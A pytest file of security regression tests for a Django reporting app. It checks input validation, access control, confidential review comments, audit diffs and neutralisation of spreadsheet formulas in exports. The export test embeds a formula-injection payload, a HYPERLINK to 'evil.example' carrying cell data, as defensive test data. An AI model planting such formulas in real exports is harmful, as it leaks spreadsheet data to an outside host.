"""Findings of the attack run in the Lagebild (issue 10), each with the test that would have
caught it: bad query parameters and numbers, the review comment leaking to other members, a
round of 1900 replacing the public Lagebild, demo reports breaking the app's own rules, empty
audit diffs of topic changes, spreadsheet formulas in exports, and HTML in member names on the
map."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.core.exceptions import ValidationError
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from hafennetz.core.models import AuditEntry
from hafennetz.members.models import Member, StaffAccount, StateCoordination
from hafennetz.situation import services
from hafennetz.situation.models import (
    KeyFigure,
    Questionnaire,
    ReportStatus,
    ReviewStatus,
    SituationReport,
    SurveyRound,
    Topic,
)
from hafennetz.situation.selectors import public_round
from hafennetz.situation.services import AnswerInput, FigureInput

from .conftest import TOPICS, all_answers

pytestmark = pytest.mark.django_db
DETMOLD = "05766020"


def _detail(number: int, ags: str = DETMOLD) -> str:
    return reverse("report-detail", kwargs={"number": number, "ags": ags})


@pytest.mark.parametrize("version", ["²", "9" * 5000, "-1", "1e3", "", "0", "99999"])
def test_bad_version_parameter_is_ignored(client: Client, member_user: Any, version: str) -> None:
    client.force_login(member_user)
    response = client.get(_detail(3), {"version": version})
    assert response.status_code == 200


def test_huge_report_figure_is_a_field_error(
    client: Client, member_user: Any, open_round: SurveyRound
) -> None:
    client.force_login(member_user)
    data = {f"strain_{code}": "2" for code in TOPICS}
    data["figure_places_available"] = "99999999999999999999"
    response = client.post(
        reverse("report-edit", kwargs={"number": open_round.number, "ags": DETMOLD}), data
    )
    assert response.status_code == 200
    assert "figure_places_available" in response.context["form"].errors
    assert not SituationReport.objects.filter(round=open_round, member__municipality_id=DETMOLD)


def test_service_refuses_a_figure_above_the_maximum(open_round: SurveyRound) -> None:
    member = Member.objects.get(municipality_id=DETMOLD)
    with pytest.raises(ValidationError) as caught:
        services.report_save(
            actor=None,
            survey_round=open_round,
            member=member,
            share_with_members=False,
            answers=all_answers(2),
            figures={"places_available": FigureInput(value=10**12, confirmed=True)},
        )
    assert "figure_places_available" in caught.value.error_dict


def _staff_of(member: Member, name: str) -> Any:
    user = get_user_model().objects.create_user(username=f"{name}@test.example", password="x")
    StaffAccount.objects.create(user=user, member=member)
    return user


def test_review_comment_is_only_for_the_office_and_the_member(
    client: Client, office_user: Any, member_user: Any
) -> None:
    """A shared report of round 3 gets a query with a comment: other members (and the state
    coordination) see the report, not the comment or the review status."""
    report = (
        SituationReport.objects.filter(
            round__number=3, is_current=True, status=ReportStatus.SUBMITTED
        )
        .filter(share_with_members=True)
        .exclude(member__municipality_id=DETMOLD)
        .select_related("member")
        .first()
    )
    assert report is not None
    services.report_review(
        actor=office_user,
        report=report,
        review_status=ReviewStatus.QUERY,
        comment="Vertraulich: bitte Belegungszahl prüfen",
    )
    url = _detail(3, report.member.ags)
    own = _staff_of(report.member, "own")
    coordination = StateCoordination.objects.current().filter(state_id=report.state_id).first()
    viewers = {"office": (office_user, True), "own": (own, True), "other": (member_user, False)}
    if coordination is not None and coordination.member_id != report.member_id:
        viewers["state"] = (_staff_of(coordination.member, "state"), False)
    for name, (user, sees) in viewers.items():
        client.force_login(user)
        response = client.get(url)
        assert response.status_code == 200, name
        html = response.content.decode()
        assert ("Vertraulich" in html) is sees, name
        assert ("review-query" in html) is sees, name


def test_round_of_1900_is_refused(client: Client, office_user: Any) -> None:
    client.force_login(office_user)
    response = client.post(
        reverse("round-create"),
        {
            "title": "Alt",
            "questionnaire": Questionnaire.objects.get(version=1).pk,
            "opens_on": "1900-01-01",
            "deadline": "1900-01-10",
        },
    )
    assert response.status_code == 200
    assert set(response.context["form"].errors) == {"opens_on", "deadline"}
    with pytest.raises(ValidationError):
        services.round_open(
            actor=office_user,
            title="Alt",
            questionnaire=Questionnaire.objects.get(version=1),
            opens_on=dt.date(1900, 1, 1),
            deadline=dt.date(1900, 1, 10),
        )
    assert not SurveyRound.objects.filter(title="Alt").exists()


def test_public_page_shows_the_round_whose_deadline_passed_last(office_user: Any) -> None:
    shown = public_round()
    assert shown is not None
    services.round_open(
        actor=office_user,
        title="Nachgetragen 2001",
        questionnaire=Questionnaire.objects.get(version=1),
        opens_on=dt.date(2001, 1, 1),
        deadline=dt.date(2001, 1, 31),
    )
    assert public_round() == shown


def test_demo_reports_obey_the_report_rules() -> None:
    figures = list(KeyFigure.objects.select_related("not_above", "topic"))
    topics = list(Topic.objects.all())
    reports = SituationReport.objects.filter(is_demo=True).prefetch_related(
        "answers__topic", "figures__figure"
    )
    assert reports.exists()
    for report in reports:
        answers = {
            a.topic.code: AnswerInput(a.strain, a.what_is_hard, a.what_works)
            for a in report.answers.all()
        }
        values = {
            v.figure.code: FigureInput(v.value, v.confirmed_out_of_bounds)
            for v in report.figures.all()
        }
        errors = services.validate_report(
            topics=topics,
            figures=figures,
            answers=answers,
            values=values,
            complete=report.status == ReportStatus.SUBMITTED,
        )
        assert not errors, (report.member.name, report.round.number, errors)


def test_topic_update_is_audited_with_before_and_after(client: Client, office_user: Any) -> None:
    client.force_login(office_user)
    topic = Topic.objects.get(code="housing")
    response = client.post(
        reverse("topic-edit", kwargs={"code": "housing"}),
        {"code": "housing", "name_de": "Wohnen", "name_en": topic.name_en, "order": topic.order,
         "active": "1"},
    )  # fmt: skip
    assert response.status_code == 302
    entry = AuditEntry.objects.filter(action="topic.update").latest("pk")
    assert entry.before == {"name_de": "Unterbringung"}
    assert entry.after == {"name_de": "Wohnen"}


def test_services_refuse_what_the_actor_may_not_write(
    member_user: Any, open_round: SurveyRound, office_user: Any
) -> None:
    from hafennetz.core.access import AccessDenied

    other = Member.objects.get(municipality_id="03254021")
    with pytest.raises(AccessDenied):
        services.report_save(
            actor=member_user,
            survey_round=open_round,
            member=other,
            share_with_members=False,
            answers=all_answers(2),
            figures={},
        )
    with pytest.raises(AccessDenied):
        services.topic_save(actor=member_user, data={"name_de": "x"}, topic=Topic.objects.first())
    with pytest.raises(AccessDenied):
        services.reminders_send(actor=member_user, survey_round=open_round)
    report = SituationReport.objects.filter(status=ReportStatus.SUBMITTED).first()
    assert report is not None
    with pytest.raises(AccessDenied):
        services.report_review(actor=member_user, report=report, review_status="approved")


def test_export_neutralises_formulas_in_csv_and_xlsx(
    client: Client, office_user: Any, open_round: SurveyRound
) -> None:
    member = Member.objects.get(municipality_id=DETMOLD)
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'
    answers = all_answers(2)
    answers["housing"] = AnswerInput(strain=3, what_is_hard=formula, what_works="+1 Stelle")
    services.report_save(
        actor=None,
        survey_round=open_round,
        member=member,
        share_with_members=False,
        answers=answers,
        figures={},
        submit=True,
        now=timezone.now(),
    )
    client.force_login(office_user)
    base = {"number": open_round.number}
    text = client.get(reverse("round-export", kwargs=base | {"fmt": "komma.csv"})).content
    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
    header = rows[0]
    mine = [r for r in rows[1:] if r[header.index("ags")] == DETMOLD]
    housing = next(r for r in mine if r[header.index("topic_code")] == "housing")
    assert housing[header.index("what_is_hard")] == "'" + formula
    assert housing[header.index("what_works")] == "'+1 Stelle"
    data = client.get(reverse("round-export", kwargs=base | {"fmt": "xlsx"})).content
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    hits = [c for c in cells if "HYPERLINK" in c.value]
    assert hits and all(c.data_type == "s" for c in hits)
